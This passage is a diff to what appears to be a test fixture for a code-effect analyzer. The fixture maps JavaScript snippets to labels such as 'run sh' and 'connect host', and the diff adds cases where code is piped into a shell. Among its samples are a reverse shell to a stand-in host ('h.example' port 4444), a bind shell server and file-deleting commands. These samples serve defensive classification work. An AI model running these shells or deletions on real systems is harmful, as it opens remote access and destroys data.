@@ -34,13 +34,16 @@ import('child_process').then(function (m) { m.execSync('rm x') }) => run javascr
 global.process.mainModule.require('child_process').execSync('rm x') => run javascript [inline] · run rm x · write x [delete]
 require(process.argv[1]) => run javascript [inline] OPAQUE
 const x = require('fs').rmSync; x('a') => run javascript [inline] OPAQUE
-const s = require('net').connect(4444, 'h.example'); s.pipe(require('child_process').spawn('sh').stdin) => run javascript [inline] · connect h.example · run sh <network:h.example>
+const s = require('net').connect(4444, 'h.example'); s.pipe(require('child_process').spawn('sh').stdin) => run javascript [inline] · connect h.example · run sh <unknown:code,network:h.example>
 require('net').createConnection({port: 1, host: 'db'}) => run javascript [inline] · connect db
 require('net').connect(5432) => run javascript [inline] · connect localhost
 client.connect() => run javascript [inline]
 client.connect(port, host) => run javascript [inline] · connect □
-require('net').createServer(c=>c.pipe(require('child_process').spawn('sh').stdin)) => run javascript [inline] · run sh <network:…>
+require('net').createServer(c=>c.pipe(require('child_process').spawn('sh').stdin)) => run javascript [inline] · run sh <unknown:code,network:…>
 require('node:http').get('http://a.example', r=>1) => run javascript [inline] · connect http://a.example
 new Socket() => run javascript [inline]
+const p = require('child_process').spawn('sh'); p.stdin.write('rm x') => run javascript [inline] · run sh <unknown:code> OPAQUE
+require('child_process').execSync('sh', {input: 'rm x'}) => run javascript [inline] · run sh <unknown:code> OPAQUE
+require('child_process').spawn('sort').stdin.end('a') => run javascript [inline] · run sort
 """,
 )
